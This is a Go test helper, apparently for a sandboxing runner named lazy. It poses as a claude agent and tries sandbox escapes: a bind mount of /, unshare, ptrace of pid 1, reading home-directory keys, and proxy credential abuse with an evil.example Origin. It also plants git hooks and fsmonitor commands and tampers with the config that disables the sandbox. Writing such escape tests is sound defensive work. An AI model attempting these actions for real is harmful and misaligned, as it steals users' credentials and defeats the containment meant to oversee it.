// Command hostile is an agent of the project's own that attacks lazy from
// inside the runner it is launched by. It speaks the claude argv contract
// (the prompt on standard input, a JSON plan of what to attack), tries
// everything, writes a report of what worked to report.json in its worktree
// and prints the claude result line.
package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

// Plan is what the test knows and the agent should not be able to use.
type Plan struct {
	Files        []string          `json:"files"`        // secrets to read
	Ports        map[string]int    `json:"ports"`        // host services to reach directly
	Placeholders map[string]string `json:"placeholders"` // name -> a placeholder not ours
	Marker       string            `json:"marker"`       // the hook planted writes this file
}

// Attempt is one attack and what came of it.
type Attempt struct {
	Name    string `json:"name"`
	Worked  bool   `json:"worked"`
	Status  int    `json:"status,omitempty"`
	Refused string `json:"refused,omitempty"`
	Detail  string `json:"detail,omitempty"`
}

func main() {
	var plan Plan
	prompt, _ := io.ReadAll(os.Stdin) // the claude contract: the prompt on standard input
	if err := json.Unmarshal([]byte(strings.TrimSpace(string(prompt))), &plan); err != nil {
		fmt.Printf(`{"result":"bad plan: %v","session_id":"hostile","is_error":true}`+"\n", err)
		os.Exit(1)
	}
	var out []Attempt
	add := func(a Attempt) { out = append(out, a) }

	for _, f := range plan.Files {
		b, err := os.ReadFile(f)
		add(Attempt{Name: "read " + f, Worked: err == nil && len(strings.TrimSpace(string(b))) > 0, Detail: errText(err)})
	}
	for name, port := range plan.Ports {
		c, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), 2*time.Second)
		if err == nil {
			c.Close()
		}
		add(Attempt{Name: "connect " + name, Worked: err == nil, Detail: errText(err)})
	}
	// root of the machine: as root without a user namespace, a plain
	// bind of / shows the host beneath bwrap's overlays
	if dir, err := os.MkdirTemp("", "escape"); err == nil {
		err = syscall.Mount("/", dir, "", syscall.MS_BIND, "")
		worked := false
		if err == nil && len(plan.Files) > 0 {
			b, rerr := os.ReadFile(filepath.Join(dir, plan.Files[0]))
			worked = rerr == nil && len(b) > 0
		}
		add(Attempt{Name: "mount escape: bind / and read the credential", Worked: worked || err == nil, Detail: errText(err)})
	}
	err := syscall.Unshare(syscall.CLONE_NEWUSER)
	add(Attempt{Name: "unshare a user namespace", Worked: err == nil, Detail: errText(err)})
	_, _, errno := syscall.Syscall6(syscall.SYS_PTRACE, syscall.PTRACE_ATTACH, 1, 0, 0, 0, 0)
	add(Attempt{Name: "ptrace pid 1", Worked: errno == 0, Detail: errText(errnoErr(errno))})
	// the user's home: SSH keys, the user's own claude login, tokens
	var found []string
	for _, h := range []string{"/root", "/home"} {
		_ = filepath.WalkDir(h, func(p string, d os.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() && len(found) < 5 {
				if f, err := os.Open(p); err == nil {
					f.Close()
					found = append(found, p)
				}
			}
			return nil
		})
	}
	add(Attempt{Name: "read a file in the user's home", Worked: len(found) > 0, Detail: strings.Join(found, " ")})
	// the proxy sockets of daemons in the host's /tmp (this project's too)
	socks, _ := filepath.Glob("/tmp/lazy-proxy-*/proxy.sock")
	add(Attempt{Name: "find a daemon's proxy socket in /tmp", Worked: len(socks) > 0, Detail: strings.Join(socks, " ")})
	c, err := net.DialTimeout("tcp", "93.184.216.34:80", 2*time.Second)
	if err == nil {
		c.Close()
	}
	add(Attempt{Name: "connect an outside host", Worked: err == nil, Detail: errText(err)})

	base := os.Getenv("ANTHROPIC_BASE_URL")
	own := os.Getenv("ANTHROPIC_API_KEY")
	call := func(name, path string, hdr map[string]string) Attempt {
		req, _ := http.NewRequest("POST", base+path, strings.NewReader(`{"model":"m","max_tokens":5,"messages":[{"role":"user","content":"hi"}]}`))
		req.Header.Set("x-attack", name)
		for k, v := range hdr {
			req.Header.Set(k, v)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return Attempt{Name: name, Detail: err.Error()}
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		// worked = the proxy let it through with a credential of ours; the
		// test checks on the upstream's side which credential arrived
		return Attempt{Name: name, Status: resp.StatusCode, Refused: resp.Header.Get("x-lazy-refused")}
	}
	add(call("proxy: no key", "/v1/messages", nil))
	add(call("proxy: junk key", "/v1/messages", map[string]string{"x-api-key": "junk"}))
	add(call("proxy: revoked placeholder", "/v1/messages", map[string]string{"x-api-key": plan.Placeholders["revoked"]}))
	add(call("proxy: editor route with a model placeholder", "/_svc/cursor/"+own+"/v1/chat", nil))
	add(call("proxy: as a web page", "/v1/messages", map[string]string{"x-api-key": own, "Origin": "http://evil.example"}))

	// git: plant a hook and a config entry in the common git dir
	common, _ := exec.Command("git", "rev-parse", "--path-format=absolute", "--git-common-dir").Output()
	gd := strings.TrimSpace(string(common))
	hook := "#!/bin/sh\necho pwned > " + plan.Marker + "\n"
	err = os.WriteFile(gd+"/hooks/post-checkout", []byte(hook), 0o755)
	add(Attempt{Name: "plant .git/hooks/post-checkout", Worked: err == nil, Detail: errText(err)})
	f, err := os.OpenFile(gd+"/config", os.O_APPEND|os.O_WRONLY, 0)
	if err == nil {
		_, err = f.WriteString("[core]\n\tfsmonitor = \"echo pwned > " + plan.Marker + "; false\"\n\thooksPath = " + gd + "/hooks\n")
		f.Close()
	}
	add(Attempt{Name: "write .git/config", Worked: err == nil, Detail: errText(err)})
	// the task's own repository borrows the project's objects: from there,
	// the project's git dir, its objects, refs and config
	project := filepath.Dir(gd)
	if alt, err := os.ReadFile(filepath.Join(gd, "objects", "info", "alternates")); err == nil {
		pgd := filepath.Dir(strings.TrimSpace(string(alt)))
		project = filepath.Dir(pgd)
		err = os.WriteFile(filepath.Join(pgd, "objects", "planted"), []byte("x"), 0o644)
		add(Attempt{Name: "write the project's objects", Worked: err == nil, Detail: errText(err)})
		err = os.WriteFile(filepath.Join(pgd, "refs", "heads", "main"), []byte("0000000000000000000000000000000000000000\n"), 0o644)
		add(Attempt{Name: "move the project's main", Worked: err == nil, Detail: errText(err)})
		f, err := os.OpenFile(filepath.Join(pgd, "config"), os.O_APPEND|os.O_WRONLY, 0)
		if err == nil {
			_, err = f.WriteString("[core]\n\tfsmonitor = \"echo pwned > " + plan.Marker + "; false\"\n")
			f.Close()
		}
		add(Attempt{Name: "write the project's .git/config", Worked: err == nil, Detail: errText(err)})
	}
	// the project's config is applied live: an agent that could write it
	// would turn its own sandbox off for the next turn
	cfgPath := filepath.Join(project, ".lazy", "config.toml")
	f, err = os.OpenFile(cfgPath, os.O_APPEND|os.O_WRONLY, 0)
	if err == nil {
		_, err = f.WriteString("\n# pwned\n")
		f.Close()
	}
	add(Attempt{Name: "write the project's .lazy/config.toml", Worked: err == nil, Detail: errText(err)})
	err = os.WriteFile(".git", []byte("gitdir: /tmp\n"), 0o644)
	add(Attempt{Name: "redirect the worktree's .git", Worked: err == nil, Detail: errText(err)})

	// last, as it trips the wire and our own grant is gone after it
	add(call("proxy: another task's placeholder", "/v1/messages", map[string]string{"x-api-key": own, "x-other": plan.Placeholders["other"]}))
	add(call("proxy: own placeholder after the tripwire", "/v1/messages", map[string]string{"x-api-key": own}))

	b, _ := json.MarshalIndent(out, "", "  ")
	_ = os.WriteFile("report.json", b, 0o644)
	fmt.Printf(`{"result":"%d attempts","session_id":"hostile-session","is_error":false}`+"\n", len(out))
}

func errnoErr(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

func errText(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}
